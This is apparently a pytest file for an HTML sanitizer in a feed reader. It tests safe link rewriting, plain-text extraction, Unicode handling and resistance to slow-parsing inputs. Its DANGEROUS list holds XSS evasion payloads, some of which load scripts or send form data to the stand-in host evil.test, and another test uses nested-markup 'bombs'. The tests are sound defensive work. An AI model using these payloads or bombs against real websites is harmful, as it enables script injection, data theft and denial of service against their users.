"""Feed markup to safe HTML and to plain text."""

from __future__ import annotations

import time

import pytest

from responders.feeds.text import clean_html, one_line, plain_text, too_deep

# Each would run a script, load something or send something if it survived (OWASP XSS filter
# evasion cheat sheet, by kind).
DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action='//evil.test'><input name=p></form>",
    "<style>body{background:url(//evil.test)}</style>",
    "<p style='background:url(//evil.test)'>x</p>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<object data=//evil.test></object>",
    "<embed src=//evil.test>",
    "<base href=//evil.test>",
    "<video poster=//evil.test/p.png src=//evil.test/v></video>",
    "<audio src=//evil.test/a></audio>",
    "<img src=//evil.test/pixel.gif width=1>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
]


@pytest.mark.parametrize("markup", DANGEROUS)
def test_nothing_runs_loads_or_sends_after_cleaning(markup: str) -> None:
    import lxml.html

    clean = clean_html(f"<div>{markup}</div>", base="https://example.org/")
    kept = lxml.html.fragment_fromstring(clean, create_parent="main")
    for element in kept.iter():
        assert element.tag not in {"script", "style", "img", "iframe", "form", "link", "object"}
        for name, value in element.attrib.items():
            assert name in {"href", "rel", "title"}, (element.tag, name)
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:", "tel:"))


def test_links_become_absolute_and_tell_no_referrer() -> None:
    clean = clean_html("<a href='../b?x=1&y=2'>b</a>", base="https://example.org/a/c")
    assert 'href="https://example.org/b?x=1&amp;y=2"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


@pytest.mark.parametrize("base", ["", "not an address", "/relative", "javascript:x", "http://["])
def test_relative_links_without_a_base_are_dropped(base: str) -> None:
    assert "href" not in clean_html("<a href='/b'>b</a>", base=base)


def test_cleaning_is_done_once() -> None:
    once = clean_html("<p>a <b>b</b> &amp;lt; <a href='/c'>c</a>", base="https://example.org/")
    assert clean_html(once, base="https://example.org/") == once


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("plain", "plain"),
        ("AT&amp;T &#8212; &eacute;t&eacute;", "AT&T — été"),
        ("a&amp;lt;b", "a&lt;b"),
        ("<p>One</p><p>Two</p>", "One Two"),
        ("one<br>two<br/>three", "one two three"),
        ("<ul><li>a<li>b</ul>", "a b"),
        ("<td>a</td><td>b</td>", "ab"),  # cells outside a table are no cells (HTML 13.2.6.4.7)
        ("<b>un</b>ion", "union"),
        ("a<script>x()</script>b<style>p{}</style>c", "abc"),
        ("a <!-- hidden --> b", "a b"),
        ("5 < 6 and 7 > 3", "5 < 6 and 7 > 3"),
        ("<a title='x > y' href='z'>link</a>", "link"),
        ("  many\n\t spaces\xa0here ", "many spaces here"),
        ("", ""),
        ("<p></p>", ""),
    ],
)
def test_plain_text_is_what_a_reader_would_read_aloud(markup: str, text: str) -> None:
    assert plain_text(markup, most=100) == text


def test_unseen_characters_do_not_reach_the_matcher() -> None:
    assert one_line("un\u00adion\u200b \u202enoinu\u202c \x00\x1b[31m\ufeff", most=50) == (
        "union noinu [31m"
    )


def test_joined_emoji_and_scripts_that_need_joiners_stay_whole() -> None:
    family = "👩\u200d👩\u200d👧 क\u094d\u200dष"
    assert one_line(family, most=50) == family


def test_text_is_composed() -> None:
    assert one_line("e\u0301", most=5) == "é"


def test_a_cut_ends_at_a_word_within_the_limit() -> None:
    assert one_line("one two three four", most=12) == "one two…"
    assert one_line("x" * 50, most=10) == "x" * 9 + "…"


@pytest.mark.parametrize(
    "bomb",
    [
        "<!--" * 50_000,
        "<div>" * 40_000,
        "<b><p>" * 20_000,
        "<a href='" * 20_000,
        "&" * 50_000,
        "<table><tr><td>" * 10_000,
        "<font>" * 30_000,
        "\u202e" * 200_000,
        "<" * 200_000,
    ],
    ids=["comments", "div", "b-p", "quote", "amp", "table", "font", "bidi", "lt"],
)
def test_hostile_markup_is_cleaned_in_reasonable_time(bomb: str) -> None:
    started = time.process_time()
    clean_html(bomb, base="https://example.org/")
    plain_text(bomb, most=1000)
    # A tenth of a second where the machine is idle; quadratic behaviour would take over 10 s.
    assert time.process_time() - started < 3


def test_deep_nesting_is_reduced_to_its_words() -> None:
    bomb = "<div>" * 2000 + "<script>x</script>strike &lt;now&gt;" + "</div>" * 2000
    assert too_deep(bomb)
    assert clean_html(bomb, base="").startswith("<p>")
    assert "strike &lt;now&gt;" in clean_html(bomb, base="")


def test_many_siblings_are_not_deep() -> None:
    assert not too_deep("<p>word<br><li>x" * 5000)
    assert not too_deep("<div>word</div>" * 5000)
